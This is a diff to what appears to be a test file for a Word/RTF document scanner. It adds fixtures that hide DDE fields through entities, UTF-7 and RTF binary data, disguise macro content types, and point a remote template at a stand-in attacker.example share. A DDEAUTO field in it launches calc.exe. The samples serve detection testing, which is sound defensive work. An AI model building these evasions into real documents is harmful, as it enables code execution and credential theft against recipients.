@@ -138,6 +138,47 @@ const word: readonly (readonly [string, Bytes])[] = [
     'a DDE field split by an unknown element',
     withField('DD', '</w:instrText><x:fldChar x:fldCharType="begin"/><w:instrText>EAUTO cmd'),
   ],
+  [
+    'a DDE field in an entity',
+    docx({
+      document: documentOf(paragraphsOf('<w:instrText>&d;AUTO x</w:instrText>')).replace(
+        '<w:document',
+        '<!DOCTYPE d [<!ENTITY d "DDE">]><w:document',
+      ),
+    }),
+  ],
+  [
+    'a DDE field in UTF-7',
+    docx({
+      document: documentOf(paragraphsOf('<w:instrText>+AEQARABF-AUTO x</w:instrText>')).replace(
+        'UTF-8',
+        'UTF-7',
+      ),
+    }),
+  ],
+  [
+    'macros by the type of their extension',
+    docx({
+      types: contentTypes.replace(
+        '<Override',
+        '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/><Override',
+      ),
+      others: { 'word/a.dat': 'x' },
+    }),
+  ],
+  [
+    'a macro type under another spelling of its name',
+    docx({
+      types: contentTypes.replace(
+        '</Types>',
+        `${overrideOf('word/./document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml')}</Types>`,
+      ),
+    }),
+  ],
+  [
+    'a header as its main part',
+    docx({ types: typesOf(overrideOf('word/document.xml', `${wordTypes}.header+xml`)) }),
+  ],
   ['a DDE field in character references', withField('&#68;&#x44;EAUTO cmd')],
   [
     'a field that includes a text',
@@ -171,15 +212,16 @@ const rtf = (content: string): Bytes =>
   Uint8Array.from(Buffer.from(`{\\rtf1\\ansi Nele New ${content}}`, 'latin1'))
 const rtfField = (instruction: string) => rtf(`{\\field{\\*\\fldinst ${instruction}}{\\fldrslt x}}`)
 
+/** As binary data it would be skipped. */
+const hidden = '{\\field{\\*\\fldinst DDEAUTO x}}'
+
 const richText: readonly (readonly [string, Bytes])[] = [
   ['objdata with a number', rtf('{\\object\\objemb0{\\*\\objdata0 0105}}')],
   ['objocx', rtf('{\\*\\objocx1 x}')],
+  ['an object that binary data could hide', rtf('{\\pict\\bin28 {\\object{\\*\\objdata 0105}}}}')],
   ['objdata alone, with a number', rtf('{\\*\\objdata000105}')],
   ['an object in binary data', rtf('{\\pict\\bin1 \\\\objdata0105}')],
-  [
-    'an object after binary data outside of a picture',
-    rtf('{\\bin9 {\\field{\\*\\fldinst DDEAUTO x}}}'),
-  ],
+  ['an object after binary data outside of a picture', rtf(`{\\bin${hidden.length} ${hidden}}`)],
   ['a template of a server', rtf(`{\\*\\template ${server}}`)],
   ['a template of a share, escaped', rtf("{\\*\\template0 \\'5c\\'5cattacker.example\\'5cx.dotm}")],
   ['a DDE field', rtfField('DDEAUTO c:\\\\\\\\windows\\\\\\\\calc.exe "x"')],
